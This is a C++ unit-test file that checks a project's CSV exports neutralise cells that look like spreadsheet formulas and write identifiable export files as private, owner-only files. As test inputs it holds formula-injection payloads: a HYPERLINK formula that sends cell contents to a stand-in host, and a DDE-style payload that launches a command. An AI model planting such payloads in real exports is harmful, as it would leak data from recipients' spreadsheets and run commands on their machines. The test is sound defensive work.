// Export files (docs/exports.md, "File formats"): private file modes, and CSV
// cells that a spreadsheet cannot run as formulas.
#include <gtest/gtest.h>
#include <sys/stat.h>

#include <filesystem>
#include <fstream>
#include <sstream>

#include "hearth/domain.h"
#include "hearth/escape.h"
#include "hearth/exports.h"
#include "integration_util.h"

namespace hearth::exports {
namespace {

namespace fs = std::filesystem;

std::string Slurp(const std::string& path) {
  std::ifstream in(path, std::ios::binary);
  std::stringstream ss;
  ss << in.rdbuf();
  return ss.str();
}

// The CSV rule (hearth/escape.h): a text cell that a spreadsheet would take
// for a formula is prefixed with ', then quoted as RFC 4180 says; numbers are
// written by the exports without it, so -3 stays a number.
TEST(CsvCells, TextCellsThatLookLikeFormulasAreNeutralised) {
  EXPECT_EQ(CsvCell("=HYPERLINK(\"http://x\")"), "\"'=HYPERLINK(\"\"http://x\"\")\"");
  EXPECT_EQ(CsvCell("+1+2"), "'+1+2");
  EXPECT_EQ(CsvCell("-2+3"), "'-2+3");
  EXPECT_EQ(CsvCell("@SUM(A1:A9)"), "'@SUM(A1:A9)");
  EXPECT_EQ(CsvCell("\tcmd"), "'\tcmd");
  EXPECT_EQ(CsvCell("\rcmd"), "\"'\rcmd\"");
  EXPECT_EQ(CsvCell("Synthetic Name"), "Synthetic Name");
  EXPECT_EQ(CsvCell("1 Test Street, Town"), "\"1 Test Street, Town\"");
  EXPECT_EQ(CsvCell("0-64"), "0-64");
  EXPECT_EQ(CsvCell(""), "");
}

class ExportFilesTest : public testing::StoreFixture {};

// identifiable.csv names people: it is created mode 0600 whatever the umask,
// and a name or address written to look like a formula reaches the
// recipient's spreadsheet as text.
TEST_F(ExportFilesTest, IdentifiableExportIsPrivateAndFormulaSafe) {
  IdentifiableExport exp;
  exp.period = *ParsePeriod("2018/19");
  exp.recipient = "partnership";
  IdentifiedClient c;
  c.reference = "R-1";
  c.subject = "P-1";
  c.district = "D1";
  c.given_name = "=HYPERLINK(\"http://example.invalid/?\"&A1,\"open\")";
  c.family_name = "@SUM(1+1)*cmd|' /C calc'!A0";
  c.address_lines = {"-1+1", "+Synthetic Street"};
  c.postcode = "\tTE5 7ST";
  exp.clients.push_back(c);
  mode_t old_umask = ::umask(0);
  Status s = WriteIdentifiableExport(*store_, exp, Actor{"S-MON-1", "monitoringOfficer", "test"},
                                     dir_.sub("out"));
  ::umask(old_umask);
  ASSERT_TRUE(s.ok()) << s.ToString();
  for (const char* name : {"identifiable.csv", "identifiable-report.json"}) {
    struct stat st {};
    ASSERT_EQ(::stat((dir_.sub("out") + "/" + name).c_str(), &st), 0) << name;
    EXPECT_EQ(st.st_mode & 0777, 0600u) << name << " is not private";
  }
  std::string csv = Slurp(dir_.sub("out") + "/identifiable.csv");
  std::istringstream lines(csv);
  std::string header, row;
  std::getline(lines, header);
  std::getline(lines, row);
  EXPECT_EQ(row,
            "R-1,D1,\"'=HYPERLINK(\"\"http://example.invalid/?\"\"&A1,\"\"open\"\")\","
            "'@SUM(1+1)*cmd|' /C calc'!A0,'-1+1; +Synthetic Street,'\tTE5 7ST");
}

// Every file of a KPI return is created mode 0600 too (an empty store is
// enough: the return's files are written whatever their figures).
TEST_F(ExportFilesTest, KpiReturnFilesArePrivate) {
  domain::UpcasterRegistry upcasters;
  domain::AddBuiltinUpcasters(&upcasters);
  auto codec = domain::Codec::Create(&upcasters);
  ASSERT_TRUE(codec.ok()) << codec.status().ToString();
  auto policy = ParsePolicy("nhs");
  ASSERT_TRUE(policy.ok());
  auto kpi = BuildKpiReturn(*store_, **codec, domain::Calendar::EnglandAndWales(),
                            *ParsePeriod("2018/19"), *policy, KpiOptions{});
  ASSERT_TRUE(kpi.ok()) << kpi.status().ToString();
  mode_t old_umask = ::umask(0);
  Status s = WriteKpiReturn(*kpi, dir_.sub("kpi"));
  ::umask(old_umask);
  ASSERT_TRUE(s.ok()) << s.ToString();
  size_t files = 0;
  for (const auto& e : fs::directory_iterator(dir_.sub("kpi"))) {
    struct stat st {};
    ASSERT_EQ(::stat(e.path().c_str(), &st), 0);
    EXPECT_EQ(st.st_mode & 0777, 0600u) << e.path();
    ++files;
  }
  EXPECT_EQ(files, 4u);
}

}  // namespace
}  // namespace hearth::exports
